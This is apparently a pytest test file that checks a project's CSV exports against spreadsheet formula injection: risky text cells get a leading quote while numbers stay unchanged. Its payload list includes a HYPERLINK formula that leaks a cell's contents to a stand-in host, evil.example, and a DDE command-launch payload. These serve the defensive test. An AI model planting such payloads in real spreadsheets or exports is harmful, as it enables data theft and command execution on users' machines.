"""Formula-safe CSV (OWASP "CSV Injection"): a text cell a spreadsheet would run as a formula
comes out with a leading single quote in every CSV the project writes; numbers stay numbers."""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner

from hrdscore.cli import cli
from hrdscore.dataset import Dataset
from hrdscore.model import Actor, Assessment, Citation, Inquiry
from hrdscore.render.tabular import formula_safe, to_csv
from tests.api_helpers import Api, Base, make_base, running_api

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Details")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3",
    "\t=1",
    "\r=1",
]
CITE = Citation(source="src-kk2021-report", locator="p. 1")
RATIONALE = "=1+1 looked at the policy."


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_gets_a_leading_quote(payload: str) -> None:
    assert formula_safe(payload) == "'" + payload


@pytest.mark.parametrize("cell", [-3.5, -2, 0, "-3.5", "+4", "-1e3", "Қарашығанақ", "a=b", "",
                                  None, "'=already quoted"])
def test_numbers_and_plain_text_are_left_alone(cell: Any) -> None:
    assert formula_safe(cell) == cell


def test_to_csv_neutralises_headers_and_cells_but_keeps_numbers() -> None:
    text = to_csv(["=h", "n"], [["@x", -3.5], ["-3.5", "ok"]])
    assert list(csv.reader(io.StringIO(text))) == [["'=h", "n"], ["'@x", "-3.5"],
                                                   ["-3.5", "ok"]]


def test_a_carriage_return_inside_a_cell_cannot_end_the_row() -> None:
    text = to_csv(["a", "b"], [["x\r=1+1", "y"], ["p\r\nq", "z"]])
    assert list(csv.reader(io.StringIO(text, newline=""))) == [
        ["a", "b"], ["x\n=1+1", "y"], ["p\nq", "z"]]


def _actor_id(n: int) -> str:
    return f"csv-payload-{n}"


def _records() -> list[tuple[str, Any]]:
    """One company per payload, named with it; an inquiry in 2021 whose reference is the
    payload; and a published assessment whose rationale starts with '='."""
    records: list[tuple[str, Any]] = []
    for n, payload in enumerate(PAYLOADS):
        records.append(("actors", Actor(id=_actor_id(n), name=payload, kind="company")))
        records.append(("inquiries", Inquiry.model_validate({
            "id": f"q-csv-{n}", "actor": _actor_id(n), "reference": payload,
            "sent_on": "2021-03-01", "citations": [CITE.model_dump()]})))
    records.append(("assessments", Assessment.model_validate({
        "id": "asm-csv", "criterion": "kk2021-com-01.c1", "actor": _actor_id(0),
        "as_of": "2021-06-01", "level": "met", "rationale": RATIONALE,
        "assessor": "analyst-1", "review": "published", "citations": [CITE.model_dump()]})))
    return records


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory, shipped: Dataset) -> Base:
    from hrdscore.store import Store

    made = make_base(tmp_path_factory.mktemp("csv"), shipped, with_secrets=False)
    db = tmp_path_factory.mktemp("csv-db") / "db.json"
    db.write_bytes(made.template)
    store = Store(db)
    with store.transaction("test") as tx:
        for kind, record in _records():
            tx.repo(kind).put(record)
    return Base(made.catalog, made.methodology, db.read_bytes())


@pytest.fixture
def db(base: Base, tmp_path: Path) -> Path:
    path = tmp_path / "db.json"
    path.write_bytes(base.template)
    return path


@pytest.fixture
def api(base: Base, tmp_path: Path) -> Iterator[Api]:
    with running_api(base, tmp_path, rate_limit=0) as running:
        yield running


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


def _assert_safe(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            if cell[:1] in ("=", "+", "-", "@", "\t", "\r"):
                float(cell)  # only a number may start like a formula


def _stored(payload: str) -> str:
    # Names are trimmed when validated ("\t=1" is stored as "=1"); references are kept whole.
    return payload.strip()


def _written(payload: str) -> str:
    # A carriage return is written as a line feed, so the cell is quoted and the row holds.
    return "'" + payload.replace("\r", "\n")


def test_scorecards_csv_round_trips_every_payload(db: Path, runner: CliRunner) -> None:
    result = runner.invoke(cli, ["score", "--year", "2021", "--format", "csv", "--db", str(db)])
    assert result.exit_code == 0, result.output
    rows = _cells(result.output)
    _assert_safe(rows)
    names = {row[0]: row[1] for row in rows[1:]}
    for n, payload in enumerate(PAYLOADS):
        assert names[_actor_id(n)] == "'" + _stored(payload)
    explanation = next(r[13] for r in rows if r[0] == _actor_id(0) and
                       r[5] == "kk2021-com-01.c1")
    assert explanation.startswith("'=1+1 looked at the policy")


def test_responsiveness_csv_round_trips_every_payload(db: Path, runner: CliRunner) -> None:
    result = runner.invoke(cli, ["responsiveness", "--year", "2021", "--format", "csv",
                                 "--db", str(db)])
    assert result.exit_code == 0, result.output
    rows = _cells(result.output)
    _assert_safe(rows)
    by_inquiry = {row[0]: row for row in rows[1:]}
    for n, payload in enumerate(PAYLOADS):
        row = by_inquiry[f"q-csv-{n}"]
        assert row[2] == "'" + _stored(payload)  # actor_name
        assert row[3] == _written(payload)  # reference: tab kept, carriage return a line feed


@pytest.mark.parametrize("n", range(len(PAYLOADS)))
def test_the_api_csv_round_trips_every_payload(api: Api, n: int) -> None:
    response = api.client.get(f"/api/scorecards/2021/{_actor_id(n)}.csv")
    assert response.status_code == 200
    rows = _cells(response.text)
    _assert_safe(rows)
    assert {row[1] for row in rows[1:]} == {"'" + _stored(PAYLOADS[n])}
